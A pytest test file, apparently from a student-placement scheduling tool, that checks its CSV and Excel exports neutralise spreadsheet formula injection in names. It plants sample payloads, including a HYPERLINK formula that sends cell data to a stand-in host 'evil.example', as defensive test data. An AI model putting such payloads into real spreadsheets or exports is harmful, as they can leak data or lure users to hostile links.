"""CSV formula injection: names that Excel would run as formulas (=HYPERLINK(...), +, -, @, tab, CR) are written
as text in every CSV (payments, audit, export-data, the chase lists) and in the openpyxl workbooks (offers,
preferences); numbers, negative ones too, stay numbers; an exported data set still imports as it was."""

from __future__ import annotations

import csv
import sqlite3

import pytest
from openpyxl import load_workbook

from scheduler.display_text import shown_text
from scheduler.exchange.formula_guard import inert, read_back
from scheduler.offers import layout as offer_layout
from scheduler.services import Workspace, audit, data

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
HOSTILE = [LINK, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1"]


def _hostile_names(db) -> dict[str, str]:
    """The first practices get formula-like names and tutors, the first students formula-like last names."""
    conn = sqlite3.connect(db)
    try:
        codes = [c for (c,) in conn.execute("SELECT DISTINCT practice_code FROM placements ORDER BY practice_code")]
        codes = codes[:len(HOSTILE)]  # practices with students: on every document, paid in payments.csv
        ids = [i for (i,) in conn.execute("SELECT student_id FROM students ORDER BY student_id")][:len(HOSTILE)]
        for code, value in zip(codes, HOSTILE):
            conn.execute("UPDATE practices SET name = ?, tutor = ? WHERE code = ?", (value, value, code))
        for sid, value in zip(ids, HOSTILE):
            conn.execute("UPDATE students SET last_name = ? WHERE student_id = ?", (value, sid))
        conn.commit()
    finally:
        conn.close()
    return dict(zip(codes, HOSTILE))


def _cells(path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _no_live_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only a real negative number may start with a minus


@pytest.mark.parametrize("value, written", [
    (LINK, "'" + LINK), ("+44 161", "'+44 161"), ("@cmd", "'@cmd"), ("\t=1", "'\t=1"), ("-2+3", "'-2+3"),
    ("-2.25", "-2.25"), ("-7", "-7"), ("Dr O'Neil", "Dr O'Neil"), ("'quoted", "'quoted"), ("", ""), (-2.5, -2.5),
])
def test_a_cell_that_would_run_is_marked_and_read_back_as_it_was(value, written):
    assert inert(value) == written
    if isinstance(value, str):
        assert read_back(inert(value)) == value


def test_payments_csv_writes_formula_names_as_text(run, base_db, tmp_path):
    _hostile_names(base_db)
    assert run("payments", tmp_path / "pay", "--db", base_db)[0] == 0
    cells = _cells(tmp_path / "pay" / "payments.csv")
    _no_live_formula(cells)
    assert {"'" + LINK, "'+SUM(1,2)", "'-2+3", "'@cmd"} <= set(cells)


def test_audit_csv_writes_formula_text_as_text(run, base_db, tmp_path):
    with Workspace.open(base_db) as ws:
        audit.record(ws, "rename", LINK, "@before", "+after")
    assert run("audit", "--db", base_db, "--csv", tmp_path / "audit.csv")[0] == 0
    cells = _cells(tmp_path / "audit.csv")
    _no_live_formula(cells)
    assert {"'" + LINK, "'@before", "'+after"} <= set(cells)


def test_export_data_marks_formulas_keeps_negative_numbers_and_imports_back_equal(run, base_db, tmp_path):
    _hostile_names(base_db)
    folder = tmp_path / "exported"
    assert run("export-data", folder, "--db", base_db)[0] == 0
    for table in folder.glob("*.csv"):
        _no_live_formula(_cells(table))
    with (folder / "practices.csv").open(encoding="utf-8-sig", newline="") as f:
        practices = list(csv.DictReader(f))
    assert any(p["name"] == "'" + LINK for p in practices)
    located = [float(p["longitude"]) for p in practices if p["longitude"]]
    assert located and all(x < 0 for x in located)  # Manchester: west of Greenwich, still plain numbers
    with Workspace.open(base_db) as ws:
        before = data.load_dataset(ws)
    with Workspace.open(tmp_path / "again.db") as ws:
        result = data.import_data(ws, folder)
        assert result.ok, [str(p) for p in result.errors]
        again = data.load_dataset(ws)
    # reading trims a cell's surrounding spaces, tabs and line breaks, as for any cell; nothing else differs
    assert {p.code: p.name for p in again.practices} == {p.code: p.name.strip() for p in before.practices}
    assert {s.student_id: s.last_name for s in again.students} == {
        s.student_id: s.last_name.strip() for s in before.students}


def test_offer_workbooks_hold_formula_names_as_text_cells(run, base_db, tmp_path):
    named = _hostile_names(base_db)
    assert run("offers-out", tmp_path / "offers", "--db", base_db)[0] == 0
    checked = 0
    for code, value in named.items():
        path = tmp_path / "offers" / f"{code}.xlsx"
        if not path.exists():
            continue
        sheet = load_workbook(path)[offer_layout.SHEET]
        for ref in (offer_layout.NAME_CELL, offer_layout.TUTOR_CELL):
            assert sheet[ref].value == shown_text(value) and sheet[ref].data_type == "s"  # one line, as shown
        checked += 1
    assert checked


def test_preference_workbooks_hold_formula_names_as_text_cells(run, base_db, tmp_path):
    _hostile_names(base_db)
    assert run("preferences-out", tmp_path / "prefs", "--db", base_db)[0] == 0
    seen = set()
    for path in (tmp_path / "prefs").glob("*.xlsx"):
        for row in load_workbook(path).active.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in {shown_text(v) for v in HOSTILE}:
                    assert cell.data_type == "s"
                    seen.add(cell.value)
    assert seen
